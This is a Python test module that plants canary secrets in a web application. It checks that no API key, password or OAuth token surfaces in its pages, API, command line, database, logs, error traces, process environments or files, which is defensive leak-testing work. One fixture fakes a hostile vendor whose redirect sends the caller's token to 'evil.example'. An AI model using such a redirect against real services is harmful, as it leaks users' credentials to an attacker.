"""The bar's rows on secrets of a running server: nothing shows one, and nothing lets one out, whatever goes wrong."""

import asyncio
import base64
import re
import secrets
import traceback
from collections.abc import Iterable, Mapping
from contextlib import suppress
from types import SimpleNamespace
from typing import Any, cast
from urllib.parse import parse_qsl, quote

import psutil
from fastapi.routing import iter_route_contexts

from enalysis.actions.consent import Failure
from enalysis.config import Settings
from enalysis.core.errors import EnalysisError
from enalysis.queries.fleet import fleet
from enalysis.runtime import Runtime
from enalysis.store import connections
from enalysis.store.connections import Connection
from enalysis.store.quotas import Caller
from enalysis.web.app import create_app
from tests.bar.housed import House, housed
from tests.bar.row import Row
from tests.bar.tenancy import superuser
from tests.databases import Base
from tests.oauth_bench import everything, real_clock
from tests.vendor import Act, Asked, answer

# What the bar names and this release does not have yet.
ABSENT = "metrics,error_tracker,audit"
_COMMANDS = (
    ("connection", "list", "--json"),
    ("connector", "list", "--json"),
    ("connector", "show", "acme", "--json"),
    ("site", "list", "--json"),
    ("quota", "--json"),
    ("db", "status", "--json"),
)


async def furnish(house: House) -> dict[str, str]:
    """Connect in every way there is and return the connections' ids by way; every secret joins the house's."""
    made, visitor, vendor = {}, house.visitor, house.bench.vendor
    key = house.secrets["fleet key"] = f"fk-{_new()}"
    vendor.keys.add(key)
    told = await visitor.call(
        "POST", "/api/v1/connections", {"vendor": "acme", "way": "key", "name": "Fleet", "fields": {"api_key": key}}
    )
    assert told.status_code == 201, told.text
    made["key"] = told.json()["id"]
    fields = {name: f"{name}-{_new()}" for name in ("client_id", "client_secret", "api_key")}
    house.secrets |= {f"partner's {name}": text for name, text in fields.items() if name != "client_id"}
    vendor.apps[fields["client_id"]] = fields["client_secret"]
    told = await visitor.call(
        "POST", "/api/v1/apps", {"vendor": "acme", "kind": "partner", "name": "Installer", "fields": fields}
    )
    assert told.status_code == 201, told.text
    made["app"] = told.json()["id"]
    password = house.secrets["installer's password"] = f"ip-{_new()}"
    vendor.passwords["installer@example.org"] = password
    entered = {"username": "installer@example.org", "password": password}
    told = await visitor.call(
        "POST",
        "/api/v1/connections",
        {"vendor": "acme", "way": "partner", "app": made["app"], "name": "Installer", "fields": entered},
    )
    assert told.status_code == 201, told.text
    made["partner"] = told.json()["id"]
    led = await house.consent()
    made["owner"] = led.headers["location"].split("/")[-1].split("?")[0]
    return made


def _new() -> str:
    return secrets.token_urlsafe(18)


def tokens_of(house: House) -> dict[str, str]:
    """Return what the vendor gave and was shown: tokens and verifiers."""
    vendor = house.bench.vendor
    return {f"token {n}": t for n, t in enumerate(vendor.tokens)} | {
        f"verifier {n}": t for n, t in enumerate(vendor.verifiers)
    }


async def b5(base: Base) -> Row:
    """B5: every GET of the application, its API and the command line, asked by the owner, shows no secret.

    The routes are the application's own, with the ids of what is really there; one that cannot be walked, or that
    answers an error, fails the row. Events and every other text in the database are looked through as well.
    """
    unwalked: list[str] = []
    async with housed(base) as house:
        made = await furnish(house)
        await _wait_for_polls(house)
        texts: dict[str, str] = {}
        routes = _gets()
        ids = await _ids(house, made)
        for route in routes:
            paths = _filled(route, ids)
            if not paths:
                unwalked.append(f"{route} (no value for it)")
            for path in paths:
                for accept in ("text/html", "application/json"):
                    # The scheduler's call takes no session, only its own secret.
                    bearer = {"Authorization": f"Bearer {house.secrets['CRON_SECRET']}"} if "/cron/" in path else {}
                    came = await house.visitor.ask("GET", path, {"Accept": accept, **bearer})
                    # The setup closes for good, and a callback without a state is refused.
                    if came.status_code >= 400 and route != "/setup" and "/callback" not in route:
                        unwalked.append(f"{path} ({came.status_code})")
                    texts[f"{path} as {accept}"] = came.text + _headers(came)
        for words in _COMMANDS:
            out = (await house.cli(*words)).decode()
            if not out.lstrip().startswith(("{", "[")):
                unwalked.append(f"{' '.join(words)} ({out[:80]})")
            texts[" ".join(words)] = out
        with superuser(base) as admin:
            found = everything(admin)
        texts |= {f"{c} {n}": v.decode("latin-1") for c, vs in found.items() for n, v in enumerate(vs)}
        canaries = house.secrets | tokens_of(house)
        hits = [f"{name} in {where}" for where, text in texts.items() for name in _in(text, canaries)]
    facts: dict[str, str | int] = {
        "routes": len(routes),
        "commands": len(_COMMANDS),
        "texts": len(texts),
        "canaries": len(canaries),
        "hits": len(hits),
        "not_walked": len(unwalked),
    }
    first = [*hits, *unwalked][:1]
    bad = len(hits) + len(unwalked)
    return Row("B5", len(routes), bad, 25, facts | ({"first": first[0].replace(" ", "_")} if first else {}))


def _gets() -> list[str]:
    """Return the path of every GET route of the application."""
    settings = Settings(encryption_key=bytes(32))
    app = create_app(cast("Runtime", SimpleNamespace(settings=settings, clock=real_clock, sandbox=True)))
    found = {route.path or "" for route in iter_route_contexts(app.routes) if "GET" in (route.methods or ())}
    return sorted(found)


async def _ids(house: House, made: Mapping[str, str]) -> dict[str, list[str]]:
    page = await fleet(house.bench.scope, house.bench.db, real_clock())
    return {
        "connection": [made[way] for way in ("key", "partner", "owner")],
        "app": [made["app"], str(house.bench.app)],
        "site": [str(row.id) for row in page.rows][:1],
        "vendor": ["acme"],
        "why": [each.value for each in Failure],
    }


def _filled(route: str, ids: Mapping[str, list[str]]) -> list[str]:
    if route.endswith("/consent/{why}"):
        return [f"{route.replace('{why}', each)}?vendor=acme" for each in ids["why"]]
    names = re.findall(r"\{(\w+)(?::\w+)?\}", route)
    paths = [route]
    for name in names:
        paths = [re.sub(rf"\{{{name}(:\w+)?\}}", value, path) for path in paths for value in ids.get(name, [])]
    return paths


def _headers(came: Any) -> str:  # noqa: ANN401 - a response
    return "".join(f"\n{n}: {v}" for n, v in came.headers.multi_items() if n.lower() != "set-cookie")


def _in(text: str, canaries: Mapping[str, str]) -> Iterable[str]:
    """Yield the names of the canaries that stand in a text, plain, quoted or in base64."""
    for name, value in canaries.items():
        coded = base64.b64encode(value.encode()).decode().rstrip("=")
        if any(form in text for form in {value, quote(value, safe=""), coded}):
            yield name


async def _wait_for_polls(house: House) -> None:
    """Wait until the worker asked for each way's data."""
    for _ in range(200):
        if sum("/power" in each.path for each in house.bench.vendor.used) >= 3:
            return
        await asyncio.sleep(0.1)
    raise RuntimeError("the worker polls nothing")


def _echoes() -> dict[str, Any]:
    """Return answers that repeat whatever they were asked with, in every place an answer has."""

    def told(asked: Asked) -> str:
        return f"{asked.target} {dict(asked.headers)} {asked.body.decode('latin-1')}"

    def head(asked: Asked) -> str:
        return asked.headers.get("authorization", asked.headers.get("x-api-key", "none")).split(" ")[-1]

    return {
        "401 JSON": lambda a: answer({"error": "invalid_token", "error_description": told(a)}, 401),
        "403": lambda a: answer({"message": told(a)}, 403),
        "404": lambda a: answer({"reason": told(a)}, 404),
        "410": lambda a: answer(told(a), 410, "text/plain"),
        "429": lambda a: answer({"message": told(a)}, 429, headers={"Retry-After": "1"}),
        "500 HTML": lambda a: answer(f"<pre>{told(a)}</pre>", 500, "text/html"),
        "request id": lambda a: answer({"m": told(a)}, 500, headers={"X-Request-Id": head(a)}),
        "200 no JSON": lambda a: answer(f"{{{told(a)}"),
        "200 HTML": lambda a: answer(told(a), 200, "text/html"),
        "200 strange": lambda a: answer({told(a): told(a)}),
        "reason": lambda a: answer(b"{}", 500, reason=head(a)),
        "redirect": lambda a: answer(b"", 302, None, {"Location": f"https://evil.example/?{head(a)}"}),
    }


async def c1(base: Base, faults: int = 12) -> Row:
    """C1: none of the canaries in every slot for a secret comes out anywhere, through consent, polls and faults.

    A real server at DEBUG with uvicorn's access log on, connected in all three ways, polls; then its vendor breaks
    in every way, repeating all it was sent in the answer. Sinks: what the server and the commands say, HTTP bodies
    and headers, every column of the database, errors' texts and traces, processes' command lines and environments,
    files in the temporary and the home folder. Each canary meant for the vendor must have been seen there.
    """
    sinks: dict[str, list[str]] = {name: [] for name in _SINKS}
    async with housed(base) as house:
        made = await furnish(house)
        await _wait_for_polls(house)
        await house.visitor.call("POST", "/api/oauth/acme/refresh", {"connection": made["owner"]})
        await _mistakes(house, made)
        played = dict(list(_echoes().items())[:faults])
        for act in played.values():
            await _suffer(house, made, act)
            sinks["errors"] += await _errors(house)
            house.bench.vendor.data_act = house.bench.vendor.token_act = None
        sinks["processes"] = _processes(house)
        for words in _COMMANDS[:4]:
            sinks["commands"].append((await house.cli(*words)).decode())
        for way in ("owner", "partner"):
            await house.visitor.call("POST", "/api/oauth/acme/disconnect", {"connection": made[way]})
        sinks["server"] = [(await house.stop()).decode()]
        sinks["http bodies"] = [_told(each) for each in house.visitor.answers]
        sinks["http headers"] = [_headers(each) for each in house.visitor.answers]
        sinks["files"] = _files(house)
        with superuser(base) as admin:
            sinks["database"] = [v.decode("latin-1") for vs in everything(admin).values() for v in vs]
        canaries = house.secrets | tokens_of(house)
        unseen = _unseen(house, canaries)
    hits = [f"{n} in {sink}" for sink, texts in sinks.items() for text in texts for n in _in(text, canaries)]
    empty = [sink for sink, texts in sinks.items() if not any(texts)]
    facts: dict[str, str | int] = {
        "canaries": len(canaries),
        "sinks": len(sinks),
        "absent": ABSENT,
        "hits": len(hits),
        "unseen_at_vendor": len(unseen),
        "faults": len(played),
        "empty_sinks": len(empty),
        "log_lines": sinks["server"][0].count("\n"),
    }
    first = [*hits, *(f"{n} unseen" for n in unseen), *(f"{s} empty" for s in empty)][:1]
    bad = len(hits) + len(unseen) + len(empty)
    return Row("C1", len(canaries), bad, 24, facts | ({"first": first[0].replace(" ", "_")} if first else {}))


_SINKS = ("server", "commands", "http bodies", "http headers", "database", "errors", "processes", "files")
# What never goes to a vendor; all else must be seen there.
_OWN = ("ENCRYPTION_KEY", "CRON_SECRET", "password of", "session")


async def _mistakes(house: House, made: Mapping[str, str]) -> None:
    """Enter wrong credentials in every form: they are secrets of somebody too."""
    wrong = {name: f"wrong-{_new()}" for name in ("key", "password", "secret", "login")}
    house.secrets |= {f"wrong {name}": text for name, text in wrong.items() if name != "login"}
    house.secrets["password of a stranger"] = wrong["login"]
    call = house.visitor.call
    await call("POST", "/api/v1/connections", {"vendor": "acme", "way": "key", "fields": {"api_key": wrong["key"]}})
    entered = {"username": "installer@example.org", "password": wrong["password"]}
    body = {"vendor": "acme", "way": "partner", "app": made["app"], "fields": entered}
    await call("POST", "/api/v1/connections", body)
    await call("POST", "/api/v1/connections", {**body, "fields": entered | {"password": {"x": wrong["password"]}}})
    good = dict(house.bench.fields)
    await call("PATCH", f"/api/v1/apps/{house.bench.app}", {"fields": good | {"client_secret": wrong["secret"]}})
    await call("POST", "/api/oauth/acme/refresh", {"connection": made["owner"]})
    await call("PATCH", f"/api/v1/apps/{house.bench.app}", {"fields": good})
    begun = await call("POST", "/api/oauth/acme/authorize", {"app": str(house.bench.app), "pasted": True})
    params = house.bench.vendor.consent(begun.json()["address"], "pasted")
    house.secrets |= {"pasted code": params["code"], "pasted state": params["state"]}
    text = f"https://api.acme.example/oauth/code?code={params['code']}&state={params['state']}"
    await call("POST", "/api/oauth/acme/paste", {"pasted_address": text})
    stranger = type(house.visitor)(house.visitor.origin)
    await stranger.ask("GET", "/sign-in")
    form = {"csrf": stranger.token, "email": "ada@example.org", "password": wrong["login"]}
    said = {"Origin": stranger.origin, "Sec-Fetch-Site": "same-origin"}
    house.visitor.answers.append(await stranger.ask("POST", "/sign-in", said, data=form))


async def _suffer(house: House, made: Mapping[str, str], act: Any) -> None:  # noqa: ANN401 - makes an answer
    """Let the vendor break for data and for tokens while people and the worker ask."""
    vendor, call = house.bench.vendor, house.visitor.call
    vendor.data_act = act

    def token(sent: Mapping[str, str]) -> Act:
        text = "&".join(f"{name}={value}" for name, value in sent.items()).encode()
        made_up: Act = act(Asked("POST", "/acme/oauth/token", {"authorization": "Bearer none"}, 0.0, text))
        return made_up

    vendor.token_act = token
    for way in ("key", "partner", "owner"):
        await call("POST", f"/api/v1/connections/{made[way]}/test")
        await call("POST", f"/api/v1/connections/{made[way]}/fetch")
    await call("POST", "/api/oauth/acme/refresh", {"connection": made["owner"]})
    await asyncio.sleep(0.3)


async def _errors(house: House) -> list[str]:
    """Return every form of the errors our own calls meet, in this process, where nothing scrubs them."""
    bench, told = house.bench, []
    async with bench.db.org(bench.scope) as conn:
        found = await connections.list_connections(bench.scope, conn)
    for connection in found:
        for ask in (_data, _renewal):
            try:
                await ask(house, connection)
            except EnalysisError as error:
                told += [str(error), repr(error), "".join(traceback.format_exception(error)), repr(vars(error))]
    return told


async def _data(house: House, connection: Connection) -> None:
    async with house.bench.vendors.client(house.bench.scope, connection, Caller.PERSON) as client:
        await client.connector.discover(real_clock())


async def _renewal(house: House, connection: Connection) -> None:
    if connection.app_id is not None:
        await house.bench.vendors.tokens.renew(house.bench.scope, connection, None)


def _processes(house: House) -> list[str]:
    server = psutil.Process(house.process.pid)
    found = [server, *server.children(recursive=True)]
    return [f"{each.cmdline()} {each.environ()}" for each in found]


def _files(house: House) -> list[str]:
    # The settings are where the operator put them; everything else here was written by us.
    found = [f for f in house.folder.rglob("*") if f.is_file() and f.name != ".env"]
    return [f.read_bytes().decode("latin-1") for f in found] or ["no file was written"]


def _told(came: Any) -> str:  # noqa: ANN401 - a response
    # Where to go with one's state is the one thing that this answer is for.
    return "" if came.request.url.path.endswith("/authorize") else str(came.text)


def _unseen(house: House, canaries: Mapping[str, str]) -> list[str]:
    seen = []
    for each in house.bench.vendor.asked:
        basic = each.headers.get("authorization", "").removeprefix("Basic ")
        with suppress(ValueError):
            seen.append(base64.b64decode(basic, validate=True).decode("latin-1"))
        seen += [str(dict(each.headers)), each.target, str(parse_qsl(each.body.decode("latin-1")))]
    seen += [str(each) for each in house.bench.vendor.authorized]
    whole = "\n".join(seen)
    return [n for n, text in canaries.items() if not n.startswith((*_OWN, "token")) and text not in whole]
